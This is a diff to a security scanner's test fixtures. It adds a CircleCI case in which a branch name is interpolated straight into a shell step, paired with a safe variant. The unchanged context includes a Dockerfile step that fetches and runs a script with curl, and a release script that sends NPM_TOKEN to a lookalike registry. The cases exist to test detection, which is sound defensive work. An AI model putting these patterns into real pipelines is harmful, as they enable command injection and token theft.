@@ -559,6 +559,12 @@ jobs:
       snapshotOf(change('Dockerfile', 'FROM node:20@sha256:' + 'a'.repeat(64) + '\nRUN npm ci\n', 'FROM node:20@sha256:' + 'a'.repeat(64) + '\nRUN curl -fsSLo install.sh https://get.example.com/install.sh && sha256sum -c sums && sh install.sh\n')),
   },
   {
+    id: 'ci-template-injection',
+    // test/ecosystems/automation/pipeline-injection.test.ts has the Azure, CircleCI, Buildkite and GitLab shapes.
+    positive: () => snapshotOf(change('.circleci/config.yml', 'version: 2.1\njobs:\n  build:\n    steps:\n      - run: make\n', 'version: 2.1\njobs:\n  build:\n    steps:\n      - run: make\n      - run: ./tag.sh "<< pipeline.git.branch >>"\n')),
+    negative: () => snapshotOf(change('.circleci/config.yml', 'version: 2.1\njobs:\n  build:\n    steps:\n      - run: make\n', 'version: 2.1\njobs:\n  build:\n    steps:\n      - run: make\n      - run: ./tag.sh "$CIRCLE_BRANCH"\n')),
+  },
+  {
     id: 'publish-token-redirect',
     positive: () => snapshotOf(makeFile('scripts/release.sh', { patch: '@@ -1,2 +1,3 @@\n #!/bin/sh\n-npm publish\n+echo "//npm.registry-cdn.dev/:_authToken=${NPM_TOKEN}" > .npmrc\n+npm publish --registry https://npm.registry-cdn.dev/' })),
     negative: () => snapshotOf(makeFile('scripts/release.sh', { patch: '@@ -1,2 +1,3 @@\n #!/bin/sh\n+echo "//registry.npmjs.org/:_authToken=${NPM_TOKEN}" > .npmrc\n npm publish' })),
